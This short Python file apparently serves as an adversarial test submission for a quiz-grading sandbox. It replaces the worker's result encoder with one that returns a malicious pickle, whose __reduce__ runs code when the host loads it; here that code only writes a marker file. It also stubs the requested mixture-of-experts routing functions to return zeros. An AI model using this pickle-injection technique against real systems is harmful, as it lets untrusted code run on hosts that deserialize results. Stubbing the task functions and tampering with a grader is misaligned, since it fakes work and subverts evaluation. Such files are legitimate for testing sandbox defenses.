"""Attack: replace the worker's encoder so that the reply is a pickle that runs code when loaded."""
# quizgen: question 52
import io
import pickle
import sys

import torch


class Payload:
    def __reduce__(self):
        return (open, ("__MARKER__", "w"))


def _evil_encode(value):
    buffer = io.BytesIO()
    pickle.dump(Payload(), buffer)
    return buffer.getvalue()


_worker = sys.modules.get("quizgen.sandbox.worker")
if _worker is not None:
    _worker.encode_value = _evil_encode
    _worker._plain_result = lambda value: (value, ["cpu"])


def route_top_k(router_logits, k, renormalize):
    return torch.zeros(1)


load_balancing_loss = moe_forward = route_top_k
